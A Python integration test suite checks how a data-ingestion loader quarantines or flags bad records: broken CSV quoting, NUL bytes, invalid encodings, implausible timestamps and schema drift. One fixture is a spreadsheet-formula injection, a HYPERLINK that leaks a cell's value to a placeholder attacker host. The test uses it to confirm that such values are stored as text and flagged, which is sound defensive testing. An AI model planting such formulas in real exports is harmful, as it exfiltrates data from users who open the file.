"""Bad records and schema drift, each accounted (docs/reliability.md, "Bad-input corpus"
and "Schema drift"; docs/landing.md; issue 18, items 1 and 3).

The record-level half of the bad-input corpus (the file-level half is test_bad_files.py,
whose helpers and fixtures this module uses). Each case writes its own fixture into a
scratch landing folder, loads it as the raw assets do, and asserts the file's accounting
recounted from the bytes the test wrote — physical lines (or, for CSV records spanning
lines, records counted by hand) = raw rows + quarantined rows + header + blank — the
quarantine reason, the loader's warnings (raw.load_warnings) and that the other files
still load. The gate cases run the Great Expectations gate and show the warnings on the
delivery's verdict, never a hold.
"""

from __future__ import annotations

import json
import os
import shutil
from datetime import date
from pathlib import Path

import duckdb

from orchestration.ingest.landing import files_for, landing_problems
from orchestration.ingest.loader import changed_deliveries, load_deliveries
from orchestration.ingest.parsing import BLANK_CHARACTERS
from orchestration.ingest.sources import SOURCES_BY_NAME
from orchestration.ingest.summary import render, summarise
from tests.integration.test_bad_files import (
    DAY,
    LOADED_AT,
    OTHER_DAY,
    assert_accounted,
    assert_stored_nowhere,
    audit,
    land,
    message,
    message_ids,
    rel,
    rows_of,
)

# The first delivery date the plausible range starts from in these tests.
FIRST = date(2025, 1, 1)
TICKET_HEADER = "ticket_id,email,channel,subject,body,status,created_at,csat"


def load(con, landing: Path, source: str, days: tuple[date, ...] = (DAY,)):
    deliveries = [(day, files_for(landing, source, day)) for day in days]
    return load_deliveries(con, SOURCES_BY_NAME[source], deliveries, LOADED_AT, "test-run", FIRST)


def order(order_id: str, **fields) -> str:
    record = {
        "order_id": order_id,
        "crm_id": "C-1",
        "ordered_at": "2026-01-05T10:00:00+01:00",
        "status": "completed",
        "currency": "EUR",
        "total": 12.5,
        "items": [{"product_id": "p1", "quantity": 1, "unit_price": 12.5}],
    }
    record.update(fields)
    return json.dumps({k: v for k, v in record.items() if v is not ...})


def ticket(ticket_id: str, subject: str = "Hello", created_at: str = "2026-01-05T09:00:00Z") -> str:
    return f"{ticket_id},a@example.org,email,{subject},Body,open,{created_at},5"


def reasons(con, source: str, relative: str) -> list[tuple[int, str, str | None]]:
    """(line, reason, detail) of the file's quarantine rows."""
    return con.execute(
        "SELECT _line, reason, detail FROM raw.quarantine WHERE source = ? AND _file = ? "
        "ORDER BY _line",
        [source, relative],
    ).fetchall()


def warnings_of(con, source: str) -> list[tuple]:
    """(file, kind, field, detail, records, first_line) of raw.load_warnings."""
    return con.execute(
        "SELECT _file, kind, field, detail, records, first_line FROM raw.load_warnings "
        "WHERE source = ? ORDER BY ALL",
        [source],
    ).fetchall()


def assert_bytes_accounted(con, source: str, relative: str, data: bytes, header: int = 0) -> int:
    """assert_accounted for bytes that are not (all) UTF-8: lines split on LF, blank lines
    recounted on the bytes."""
    lines = data.removesuffix(b"\n").split(b"\n") if data else []
    blank = sum(1 for line in lines if line.strip(BLANK_CHARACTERS.encode()) == b"")
    raw, quarantined = rows_of(con, source, relative)
    assert len(lines) == raw + quarantined + header + blank, (relative, len(lines), raw)
    return raw


def assert_records(con, source: str, relative: str, records: int) -> None:
    """A CSV file whose records span lines: records counted by hand in the test."""
    raw, quarantined = rows_of(con, source, relative)
    assert raw + quarantined == records, (relative, raw, quarantined)
    assert audit(con, source)[relative][0] == records


def no_nul_anywhere(con) -> None:
    for table in ("raw.events", "raw.orders", "raw.support_tickets"):
        columns = [
            c
            for (c,) in con.execute(
                "SELECT column_name FROM information_schema.columns WHERE table_schema = 'raw' "
                "AND table_name = ? AND data_type = 'VARCHAR'",
                [table.split(".")[1]],
            ).fetchall()
        ]
        nul = " OR ".join(f"contains({c}, chr(0))" for c in columns)
        assert con.execute(f"SELECT count(*) FROM {table} WHERE {nul}").fetchone() == (0,)
    assert con.execute(
        "SELECT count(*) FROM raw.quarantine WHERE contains(raw_text, chr(0))"
    ).fetchone() == (0,)


# -- CSV structure -------------------------------------------------------------------------


def test_a_stray_quote_in_a_csv_field_spoils_its_record_only(con, landing: Path) -> None:
    """Before, `5" screen` opened a "quoted field" that swallowed the five valid tickets
    after it into one quarantine row, uncounted as records."""
    good = [ticket(f"t{n}") for n in range(2, 7)]
    text = "\n".join([TICKET_HEADER, ticket("t1", 'Broken 5" screen'), *good]) + "\n"
    land(landing, "support_tickets", "tickets.csv", text)
    land(landing, "support_tickets", "other.csv", f"{TICKET_HEADER}\n{ticket('o1')}\n")
    load(con, landing, "support_tickets")
    relative = rel("tickets.csv", "support_tickets")
    assert reasons(con, "support_tickets", relative) == [(2, "csv_bad_quoting", None)]
    assert assert_accounted(con, "support_tickets", relative, text, header=1) == 5
    assert audit(con, "support_tickets")[relative][:3] == (6, 5, 1)
    loaded = con.execute(
        "SELECT ticket_id, _line FROM raw.support_tickets WHERE _file = ? ORDER BY _line",
        [relative],
    ).fetchall()
    assert loaded == [(f"t{n}", n + 1) for n in range(2, 7)]
    assert rows_of(con, "support_tickets", rel("other.csv", "support_tickets")) == (1, 0)


def test_embedded_newlines_and_quotes_in_csv(con, landing: Path) -> None:
    body = 'Line one\nSaid ""hi"", then\n\nleft, "quoted"'  # as written inside quotes
    text = (
        f"{TICKET_HEADER}\n"
        f't1,a@example.org,email,"Re: ""27"" monitor","{body}",open,2026-01-05T09:00:00Z,5\n'
        f"{ticket('t2')}\n"
        f't3,a@example.org,chat,"a, b","x\n"",y",open,2026-01-05T09:00:00Z,4\n'
    )
    # left, "quoted" is inside the field: its quotes are not doubled, so the record is bad
    land(landing, "support_tickets", "multi.csv", text)
    load(con, landing, "support_tickets")
    relative = rel("multi.csv", "support_tickets")
    # records, counted by hand: t1 (lines 2-5), t2 (line 6), t3 (lines 7-8)
    assert_records(con, "support_tickets", relative, 3)
    rows = dict(
        con.execute(
            "SELECT ticket_id, {'subject': subject, 'body': body, 'line': _line} "
            "FROM raw.support_tickets WHERE _file = ?",
            [relative],
        ).fetchall()
    )
    assert set(rows) == {"t2", "t3"}
    assert rows["t3"] == {"subject": "a, b", "body": 'x\n",y', "line": 7}
    assert reasons(con, "support_tickets", relative) == [(2, "csv_bad_quoting", None)]


def test_well_quoted_multiline_csv_and_crlf(con, landing: Path) -> None:
    text = (
        f"{TICKET_HEADER}\r\n"
        't1,a@example.org,email,"Re: ""27"" monitor","First\r\nsecond, line",open,'
        "2026-01-05T09:00:00Z,5\r\n"
        f"{ticket('t2')}\r\n"
    )
    land(landing, "support_tickets", "crlf.csv", text)
    events = message("m-1") + "\r\n" + message("m-2") + "\r\n"
    land(landing, "events", "crlf.jsonl", events)
    load(con, landing, "support_tickets")
    load(con, landing, "events")
    relative = rel("crlf.csv", "support_tickets")
    assert_records(con, "support_tickets", relative, 2)
    assert con.execute(
        "SELECT subject, body FROM raw.support_tickets WHERE ticket_id = 't1'"
    ).fetchone() == ('Re: "27" monitor', "First\nsecond, line")
    assert message_ids(con, rel("crlf.jsonl")) == ["m-1", "m-2"]
    assert assert_accounted(con, "events", rel("crlf.jsonl"), events.replace("\r", "")) == 2


def test_a_header_only_csv_and_a_blank_only_file(con, landing: Path) -> None:
    land(landing, "support_tickets", "header.csv", TICKET_HEADER + "\n")
    land(landing, "support_tickets", "blank.csv", "\n \n\t\n")
    land(landing, "support_tickets", "good.csv", f"{TICKET_HEADER}\n{ticket('t1')}\n")
    load(con, landing, "support_tickets")
    found = audit(con, "support_tickets")
    assert found[rel("header.csv", "support_tickets")][:4] == (0, 0, 0, 0)
    (header,) = con.execute(
        "SELECT header_records FROM raw.load_audit WHERE _file = ?",
        [rel("header.csv", "support_tickets")],
    ).fetchone()
    assert header == 1
    assert found[rel("blank.csv", "support_tickets")][:4] == (0, 0, 0, 3)
    assert rows_of(con, "support_tickets", rel("good.csv", "support_tickets")) == (1, 0)


def test_a_renamed_csv_column_lands_in_extra_with_a_warning(con, landing: Path) -> None:
    header = TICKET_HEADER.replace("csat", "satisfaction")
    text = f"{header}\n{ticket('t1')}\n{ticket('t2')}\n"
    land(landing, "support_tickets", "renamed.csv", text)
    land(landing, "support_tickets", "good.csv", f"{TICKET_HEADER}\n{ticket('t3')}\n")
    load(con, landing, "support_tickets")
    relative = rel("renamed.csv", "support_tickets")
    assert assert_accounted(con, "support_tickets", relative, text, header=1) == 2
    assert con.execute(
        "SELECT csat, _extra->>'satisfaction' FROM raw.support_tickets WHERE _file = ?",
        [relative],
    ).fetchall() == [(None, "5"), (None, "5")]
    missing = [w for w in warnings_of(con, "support_tickets") if w[1] == "missing_column"]
    # the contract columns this header lacks: csat (renamed), crm_id, user_id, category,
    # first_response_at, resolved_at (never sent)
    assert {w[2] for w in missing if w[0] == relative} == {
        "csat", "crm_id", "user_id", "category", "first_response_at", "resolved_at",
    }  # fmt: skip
    assert all(w[4:] == (2, 2) for w in missing if w[0] == relative)


def test_a_missing_required_csv_column_quarantines_every_record(con, landing: Path) -> None:
    header = TICKET_HEADER.replace("created_at", "opened")
    text = f"{header}\n{ticket('t1')}\n{ticket('t2')}\n"
    land(landing, "support_tickets", "no-created.csv", text)
    land(landing, "support_tickets", "good.csv", f"{TICKET_HEADER}\n{ticket('t3')}\n")
    load(con, landing, "support_tickets")
    relative = rel("no-created.csv", "support_tickets")
    assert assert_accounted(con, "support_tickets", relative, text, header=1) == 0
    assert reasons(con, "support_tickets", relative) == [
        (2, "missing_required_field", "created_at"),
        (3, "missing_required_field", "created_at"),
    ]
    assert rows_of(con, "support_tickets", rel("good.csv", "support_tickets")) == (1, 0)


def test_a_spreadsheet_formula_is_kept_as_text_and_flagged(con, landing: Path) -> None:
    formula = '"=HYPERLINK(""http://evil.example/?leak=""&A1,""click me"")"'
    text = (
        f"{TICKET_HEADER}\n"
        f"t1,a@example.org,email,{formula},Body,open,2026-01-05T09:00:00Z,5\n"
        f"t2,a@example.org,email,+351 912 345 678,-5 degrees,open,2026-01-05T09:00:00Z,5\n"
        f"t3,a@example.org,email,@SUM(1;2),Body,open,2026-01-05T09:00:00Z,5\n"
    )
    land(landing, "support_tickets", "formula.csv", text)
    load(con, landing, "support_tickets")
    relative = rel("formula.csv", "support_tickets")
    assert assert_accounted(con, "support_tickets", relative, text, header=1) == 3
    (subject,) = con.execute(
        "SELECT subject FROM raw.support_tickets WHERE ticket_id = 't1'"
    ).fetchone()
    assert subject == '=HYPERLINK("http://evil.example/?leak="&A1,"click me")'  # as delivered
    # a phone number or a minus sign is not a formula; =… and @SUM(…) are
    assert warnings_of(con, "support_tickets") == [
        (relative, "missing_column", "category", None, 3, 2),
        (relative, "missing_column", "crm_id", None, 3, 2),
        (relative, "missing_column", "first_response_at", None, 3, 2),
        (relative, "missing_column", "resolved_at", None, 3, 2),
        (relative, "missing_column", "user_id", None, 3, 2),
        (relative, "spreadsheet_formula", "subject", None, 2, 2),
    ]


# -- JSON lines ----------------------------------------------------------------------------


def test_a_json_array_is_quarantined_whole_never_half_loaded(con, landing: Path) -> None:
    """Before, a pretty-printed array loaded its last object (the one line without a
    trailing comma) and quarantined the rest."""
    objects = [json.loads(message(f"m-{n}")) for n in range(3)]
    pretty = json.dumps(objects, indent=2) + "\n"
    one_per_line = "[\n" + ",\n".join(json.dumps(o) for o in objects) + "\n]\n"
    compact = json.dumps(objects) + "\n"
    land(landing, "events", "pretty.json", pretty)
    land(landing, "events", "lines.json", one_per_line)
    land(landing, "events", "compact.json", compact)
    good = message("g-1") + "\n"
    land(landing, "events", "good.jsonl", good)
    load(con, landing, "events")
    for name, text in (("pretty.json", pretty), ("lines.json", one_per_line),
                       ("compact.json", compact)):  # fmt: skip
        assert assert_accounted(con, "events", rel(name), text) == 0, name
        found = {reason for _, reason, _ in reasons(con, "events", rel(name))}
        assert found == {"json_array"}, name
    assert message_ids(con, rel("good.jsonl")) == ["g-1"]


def test_a_json_lines_file_with_one_array_line_loads_the_rest(con, landing: Path) -> None:
    text = message("m-1") + "\n[1, 2]\n" + message("m-2") + "\n"
    land(landing, "events", "mixed.jsonl", text)
    load(con, landing, "events")
    assert reasons(con, "events", rel("mixed.jsonl")) == [(2, "not_json_object", None)]
    assert message_ids(con, rel("mixed.jsonl")) == ["m-1", "m-2"]


def test_json_scalars_are_not_objects_and_white_space_before_one_is(con, landing: Path) -> None:
    """The object test looks at the first byte after JSON white space (parsing.py,
    JSON_OBJECT_START); carriage returns before the newline are not the record's."""
    records = [
        " \t" + message("m-1"),  # white space, then an object: loads
        *('"a string"', "12.5", "true", "null"),  # valid JSON, not objects
        message("m-2") + "\r\r",  # CR CR LF: both carriage returns are the line end's
        "\u00a0" + message("m-3"),  # NO-BREAK SPACE is not JSON white space
    ]
    text = "\n".join(records) + "\n"
    land(landing, "events", "shapes.jsonl", text)
    load(con, landing, "events")
    assert message_ids(con, rel("shapes.jsonl")) == ["m-1", "m-2"]
    assert reasons(con, "events", rel("shapes.jsonl")) == [
        (2, "not_json_object", None),
        (3, "not_json_object", None),
        (4, "not_json_object", None),
        (5, "not_json_object", None),
        (7, "invalid_json", None),
    ]
    assert assert_accounted(con, "events", rel("shapes.jsonl"), text) == 2


def test_an_escaped_nul_in_json_is_never_stored(con, landing: Path) -> None:
    record = json.loads(message("m-1"))
    record["event"] = "Signed\u0000In"
    text = json.dumps(record) + "\n" + message("m-2") + "\n"
    assert "\\u0000" in text  # the escape, as a sender writes it
    land(landing, "events", "nul.jsonl", text)
    load(con, landing, "events")
    assert assert_accounted(con, "events", rel("nul.jsonl"), text) == 1
    assert reasons(con, "events", rel("nul.jsonl")) == [(1, "nul_character", "event")]
    no_nul_anywhere(con)


def test_nul_bytes_in_a_line(con, landing: Path) -> None:
    data = (message("m-1").replace("Signed In", "Signed\x00In") + "\n" + message("m-2") + "\n"
            ).encode()  # fmt: skip
    land(landing, "events", "nul-bytes.jsonl", data)
    with_nul = ticket("t1", "Hel\x00lo")
    csv = f"{TICKET_HEADER}\n{with_nul}\n{ticket('t2')}\n".encode()
    land(landing, "support_tickets", "nul-bytes.csv", csv)
    load(con, landing, "events")
    load(con, landing, "support_tickets")
    assert assert_bytes_accounted(con, "events", rel("nul-bytes.jsonl"), data) == 1
    assert reasons(con, "events", rel("nul-bytes.jsonl")) == [(1, "nul_character", None)]
    relative = rel("nul-bytes.csv", "support_tickets")
    assert assert_bytes_accounted(con, "support_tickets", relative, csv, header=1) == 1
    assert reasons(con, "support_tickets", relative) == [(2, "nul_character", None)]
    (shown,) = con.execute(
        "SELECT raw_text FROM raw.quarantine WHERE _file = ?", [relative]
    ).fetchone()
    assert "Hel\ufffdlo" in shown  # the NUL shown as U+FFFD
    no_nul_anywhere(con)


def test_invalid_utf8_and_latin1_lines_are_quarantined_the_rest_loads(con, landing: Path) -> None:
    invalid = message("m-1").encode() + b"\n" + b'{"messageId": "\xff\xfe"}\n' + message(
        "m-2"
    ).encode() + b"\n"  # fmt: skip
    land(landing, "events", "invalid.jsonl", invalid)
    latin1 = (f"{TICKET_HEADER}\n{ticket('t1', 'Atenção')}\n{ticket('t2', 'plain')}\n").encode(
        "latin-1"
    )
    land(landing, "support_tickets", "latin1.csv", latin1)
    land(landing, "events", "good.jsonl", message("g-1"))
    load(con, landing, "events")
    load(con, landing, "support_tickets")
    assert assert_bytes_accounted(con, "events", rel("invalid.jsonl"), invalid) == 2
    assert reasons(con, "events", rel("invalid.jsonl")) == [(2, "invalid_encoding", None)]
    relative = rel("latin1.csv", "support_tickets")
    assert assert_bytes_accounted(con, "support_tickets", relative, latin1, header=1) == 1
    assert reasons(con, "support_tickets", relative) == [(2, "invalid_encoding", None)]
    assert message_ids(con, rel("good.jsonl")) == ["g-1"]


def test_a_10_mb_line_loads(con, landing: Path) -> None:
    record = json.loads(message("big"))
    record["properties"] = {"blob": "x" * (10 << 20)}
    text = message("m-1") + "\n" + json.dumps(record) + "\n" + message("m-2") + "\n"
    assert len(text) > 10 << 20
    land(landing, "events", "big.jsonl", text)
    load(con, landing, "events")
    assert message_ids(con, rel("big.jsonl")) == ["m-1", "big", "m-2"]
    assert assert_accounted(con, "events", rel("big.jsonl"), text) == 3
    (size,) = con.execute(
        "SELECT length(properties->>'blob') FROM raw.events WHERE message_id = 'big'"
    ).fetchone()
    assert size == 10 << 20


def test_wrong_types_load_with_a_warning_or_quarantine(con, landing: Path) -> None:
    text = (
        "\n".join(
            [
                order("o-1"),
                order("o-2", total="12.50"),  # a number as a string: readable → warning
                order("o-3", total="twelve"),  # not a number → quarantined
                order("o-4", crm_id=42),  # an id as a number → warning
                order("o-5", items="p1 x1"),  # an array as a string → warning
                order("o-6", status=True),  # a boolean for text → warning
            ]
        )
        + "\n"
    )
    land(landing, "orders", "types.jsonl", text)
    load(con, landing, "orders")
    relative = rel("types.jsonl", "orders")
    assert assert_accounted(con, "orders", relative, text) == 5
    assert reasons(con, "orders", relative) == [(3, "invalid_number", "total")]
    assert con.execute(
        "SELECT total, crm_id, status FROM raw.orders WHERE order_id IN ('o-2', 'o-4', 'o-6') "
        "ORDER BY order_id"
    ).fetchall() == [("12.50", "C-1", "completed"), ("12.5", "42", "completed"),
                     ("12.5", "C-1", "true")]  # fmt: skip
    assert warnings_of(con, "orders") == [
        (relative, "type_change", "crm_id", "UBIGINT", 1, 4),
        (relative, "type_change", "items", "VARCHAR", 1, 5),
        (relative, "type_change", "status", "BOOLEAN", 1, 6),
        (relative, "type_change", "total", "VARCHAR", 1, 2),
    ]


def test_missing_and_unknown_fields(con, landing: Path) -> None:
    text = (
        "\n".join(
            [
                order("o-1", coupon="WELCOME", channel={"kind": "app"}),  # unknown: kept
                order("o-2", status=...),  # a required field absent → quarantined
                order("o-3", currency=" "),  # blank counts as missing
                order("o-4", crm_id=..., user_id="u-4"),  # an optional field absent: fine
                order("o-5", crm_id=None),  # all three customer references missing
            ]
        )
        + "\n"
    )
    land(landing, "orders", "fields.jsonl", text)
    load(con, landing, "orders")
    relative = rel("fields.jsonl", "orders")
    assert assert_accounted(con, "orders", relative, text) == 2
    assert reasons(con, "orders", relative) == [
        (2, "missing_required_field", "status"),
        (3, "missing_required_field", "currency"),
        (5, "missing_customer_reference", None),
    ]
    assert json.loads(
        con.execute("SELECT _extra FROM raw.orders WHERE order_id = 'o-1'").fetchone()[0]
    ) == {"coupon": "WELCOME", "channel": {"kind": "app"}}
    assert warnings_of(con, "orders") == []  # an absent optional JSON field is no drift


# -- timestamps ----------------------------------------------------------------------------


def test_extreme_timestamps_are_quarantined_at_load(con, landing: Path) -> None:
    """Before, orders in year 1 and 1900 loaded, then failed a critical staging test and
    stopped every customer mart."""
    text = (
        "\n".join(
            [
                order("o-1"),
                order("o-2", ordered_at="0001-01-01T00:00:00Z"),
                order("o-3", ordered_at="1900-01-01T00:00:00Z"),
                order("o-4", ordered_at="9999-12-31T23:59:59Z"),
                order("o-5", ordered_at="2024-12-31T23:00:00Z"),  # before FIRST
                order("o-6", ordered_at="2026-01-06T23:59:59Z"),  # a day after: still fine
                order("o-7", ordered_at="2026-01-07T00:00:00Z"),  # more than a day after
                order("o-8", ordered_at="2025-01-01T00:30:00+01:00"),  # 2024-12-31 in UTC
            ]
        )
        + "\n"
    )
    land(landing, "orders", "extreme.jsonl", text)
    crm = (
        "crm_id,email,created_at,updated_at\n"
        "c1,a@example.org,1985-03-01T00:00:00Z,2026-01-05T00:00:00Z\n"  # old history: fine
        "c2,b@example.org,1900-01-01T00:00:00Z,2026-01-05T00:00:00Z\n"
    )
    land(landing, "crm_customers", "crm.csv", crm)
    load(con, landing, "orders")
    load(con, landing, "crm_customers")
    relative = rel("extreme.jsonl", "orders")
    assert assert_accounted(con, "orders", relative, text) == 2
    assert reasons(con, "orders", relative) == [
        (line, "implausible_timestamp", "ordered_at") for line in (2, 3, 4, 5, 7, 8)
    ]
    relative = rel("crm.csv", "crm_customers")
    assert assert_accounted(con, "crm_customers", relative, crm, header=1) == 1
    assert reasons(con, "crm_customers", relative) == [(3, "implausible_timestamp", "created_at")]


def test_device_clocks_have_no_plausible_range(con, landing: Path) -> None:
    record = json.loads(message("m-1"))
    record |= {"sentAt": "1970-01-01T00:00:00Z", "originalTimestamp": "2099-01-01T00:00:00Z"}
    stale = json.loads(message("m-2")) | {"receivedAt": "1970-01-01T00:00:00Z"}
    text = json.dumps(record) + "\n" + json.dumps(stale) + "\n"
    land(landing, "events", "clocks.jsonl", text)
    load(con, landing, "events")
    assert message_ids(con, rel("clocks.jsonl")) == ["m-1"]
    assert reasons(con, "events", rel("clocks.jsonl")) == [
        (2, "implausible_timestamp", "receivedAt")
    ]


def test_timestamps_without_an_offset_load_with_a_warning(con, landing: Path) -> None:
    """Before, `2026-11-30 10:00` was silently taken as UTC."""
    text = (
        "\n".join(
            [
                order("o-1"),
                order("o-2", ordered_at="2026-01-05 10:00"),
                order("o-3", ordered_at="2026-01-05T10:00:00.123"),
                order("o-4", ordered_at="2026-01-05"),
                order("o-5", ordered_at="2026-01-05T10:00:00-0300"),
                order("o-6", ordered_at="2026-01-05 10:00:00 UTC"),
                order("o-7", ordered_at="2026-01-05T10:00:00+05:30"),
            ]
        )
        + "\n"
    )
    land(landing, "orders", "naive.jsonl", text)
    csv = f"{TICKET_HEADER}\n{ticket('t1', created_at='2026-01-05 09:00:00')}\n{ticket('t2')}\n"
    land(landing, "support_tickets", "naive.csv", csv)
    load(con, landing, "orders")
    load(con, landing, "support_tickets")
    relative = rel("naive.jsonl", "orders")
    assert assert_accounted(con, "orders", relative, text) == 7
    assert warnings_of(con, "orders") == [(relative, "naive_timestamp", "ordered_at", None, 3, 2)]
    naive = [w for w in warnings_of(con, "support_tickets") if w[1] == "naive_timestamp"]
    assert naive == [(rel("naive.csv", "support_tickets"), "naive_timestamp", "created_at",
                      None, 1, 2)]  # fmt: skip


# -- the landing folder ---------------------------------------------------------------------


def test_a_non_date_folder_and_an_unknown_source_are_reported_not_loaded(
    con, landing: Path
) -> None:
    good = message("m-1") + "\n"
    land(landing, "events", "good.jsonl", good)
    (landing / "events" / "2026-13-01").mkdir()
    (landing / "events" / "2026-13-01" / "x.jsonl").write_text(message("bad-date"))
    (landing / "events" / "yesterday").mkdir()
    (landing / "evnets" / DAY.isoformat()).mkdir(parents=True)
    (landing / "evnets" / DAY.isoformat() / "x.jsonl").write_text(message("typo"))
    (landing / "events" / "stray.jsonl").write_text(message("stray"))
    problems = {(p.path, p.problem) for p in landing_problems(landing, list(SOURCES_BY_NAME))}
    assert problems == {
        ("events/2026-13-01", "folder name is not a YYYY-MM-DD date"),
        ("events/yesterday", "folder name is not a YYYY-MM-DD date"),
        ("events/stray.jsonl", "file outside a YYYY-MM-DD folder"),
        ("evnets", "not a known source folder"),
    }
    load(con, landing, "events")
    assert assert_accounted(con, "events", rel("good.jsonl"), good) == 1
    assert con.execute("SELECT count(*) FROM raw.events").fetchone() == (1,)
    assert list(audit(con, "events")) == [rel("good.jsonl")]
    assert_stored_nowhere(con, "bad-date", "typo", "stray")  # nothing of them is stored


def test_copies_under_two_names_both_load_hard_links_once(con, landing: Path) -> None:
    """Two names: the same file (a hard link: read once, test_bad_files.py) or two
    files — identical content or not, each is a file of the delivery and loads; the
    gate's uniqueness checks judge the duplicate records."""
    same = message("m-1") + "\n"
    land(landing, "events", "a.jsonl", same)
    land(landing, "events", "a-copy.jsonl", same)
    land(landing, "events", "b.jsonl", message("m-2") + "\n")
    first = land(landing, "events", "c.jsonl", message("m-3") + "\n")
    os.link(first, first.with_name("z-link.jsonl"))
    load(con, landing, "events")
    assert message_ids(con, rel("a.jsonl")) == message_ids(con, rel("a-copy.jsonl")) == ["m-1"]
    assert message_ids(con, rel("b.jsonl")) == ["m-2"]
    assert message_ids(con, rel("c.jsonl")) == ["m-3"]
    assert audit(con, "events")[rel("z-link.jsonl")][4] == "duplicate_file"
    for name in ("a.jsonl", "a-copy.jsonl"):
        assert assert_accounted(con, "events", rel(name), same) == 1


def test_a_re_delivery_replaces_the_day(con, landing: Path) -> None:
    first = message("m-1") + "\n" + message("m-2") + "\n"
    path = land(landing, "events", "day.jsonl", first)
    land(landing, "events", "other.jsonl", message("o-1"), day=OTHER_DAY)
    load(con, landing, "events", (DAY, OTHER_DAY))
    source = SOURCES_BY_NAME["events"]
    delivered = [(d, files_for(landing, "events", d)) for d in (DAY, OTHER_DAY)]
    assert changed_deliveries(con, source, delivered) == []  # nothing new: nothing read
    corrected = message("m-1") + "\n" + message("m-3") + "\n" + message("m-4") + "\n"
    path.write_text(corrected)
    os.utime(path, ns=(path.stat().st_atime_ns, path.stat().st_mtime_ns + 10**9))
    delivered = [(d, files_for(landing, "events", d)) for d in (DAY, OTHER_DAY)]
    changed = changed_deliveries(con, source, delivered)
    assert [d for d, _ in changed] == [DAY]  # the re-delivered day only
    load_deliveries(con, source, changed, LOADED_AT, "second-run", FIRST)
    assert message_ids(con, rel("day.jsonl")) == ["m-1", "m-3", "m-4"]  # replaced, not added
    assert assert_accounted(con, "events", rel("day.jsonl"), corrected) == 3
    assert message_ids(con, rel("other.jsonl", day=OTHER_DAY)) == ["o-1"]  # untouched
    assert con.execute("SELECT count(*) FROM raw.load_audit").fetchone() == (2,)


# -- the gate: warnings on the delivery, never a hold ------------------------------------------


def test_the_gate_reports_drift_as_warnings_and_holds_nothing(
    warehouse: Path, landing: Path, tmp_path: Path
) -> None:
    from orchestration.quality.delivery_gate import judge_deliveries, record_verdicts
    from orchestration.state.holds import delivery_statuses

    orders = (
        "\n".join(
            [
                order("o-1"),
                order("o-2", ordered_at="2026-01-05 10:00"),  # naive
                order("o-3", total="12.50"),  # a type change
                order("o-4", ordered_at="1900-01-01T00:00:00Z"),  # implausible: quarantined
            ]
        )
        + "\n"
    )
    land(landing, "orders", "orders.jsonl", orders)
    land(landing, "orders", "clean.jsonl", order("o-9") + "\n", day=OTHER_DAY)
    header = TICKET_HEADER.replace(",csat", "")  # the optional csat column dropped
    land(landing, "support_tickets", "tickets.csv", f"{header}\n{ticket('t1')[:-2]}\n")
    with duckdb.connect(str(warehouse)) as con:
        load(con, landing, "orders", (DAY, OTHER_DAY))
        load(con, landing, "support_tickets")
    verdicts = {}
    for source, days in (("orders", [DAY, OTHER_DAY]), ("support_tickets", [DAY])):
        found, _ = judge_deliveries(warehouse, source, days, days)
        verdicts |= {(v.source, v.delivery_date): v for v in found}
    with duckdb.connect(str(warehouse)) as con:
        record_verdicts(con, list(verdicts.values()), "test-run")
        statuses = {(s.source, s.delivery_date): s.status for s in delivery_statuses(
            con, ("held", "released", "accepted"))}  # fmt: skip
        summary = render(summarise(con, DAY, OTHER_DAY, ["orders", "support_tickets"]), DAY,
                         OTHER_DAY, warehouse)  # fmt: skip
        stored = con.execute(
            "SELECT warnings FROM state.delivery_verdicts WHERE source = 'orders' "
            "AND delivery_date = ?",
            [DAY],
        ).fetchone()[0]
    file = rel("orders.jsonl", "orders")
    drift = [
        f"[warning] naive_timestamp: ordered_at in {file} (1 record from line 2)",
        f"[warning] type_change: total (VARCHAR) in {file} (1 record from line 3)",
    ]
    verdict = verdicts[("orders", DAY)]
    assert verdict.passed_critical and not verdict.held
    assert [w for w in verdict.warnings if w.startswith("[warning] naive") or "type_change" in w] \
        == drift  # fmt: skip
    assert set(drift) <= set(stored)
    assert statuses == {
        ("orders", DAY): "accepted",
        ("orders", OTHER_DAY): "accepted",
        ("support_tickets", DAY): "accepted",
    }
    assert not any("[warning] naive" in w for w in verdicts[("orders", OTHER_DAY)].warnings)
    tickets = rel("tickets.csv", "support_tickets")
    assert f"[warning] missing_column: csat in {tickets} (1 record from line 2)" in (
        verdicts[("support_tickets", DAY)].warnings
    )
    assert "implausible_timestamp 1" in summary
    assert f"{file}: naive_timestamp ordered_at (1 record)" in summary
    assert f"{tickets}: missing_column csat (1 record)" in summary
    shutil.rmtree(tmp_path / "landing")
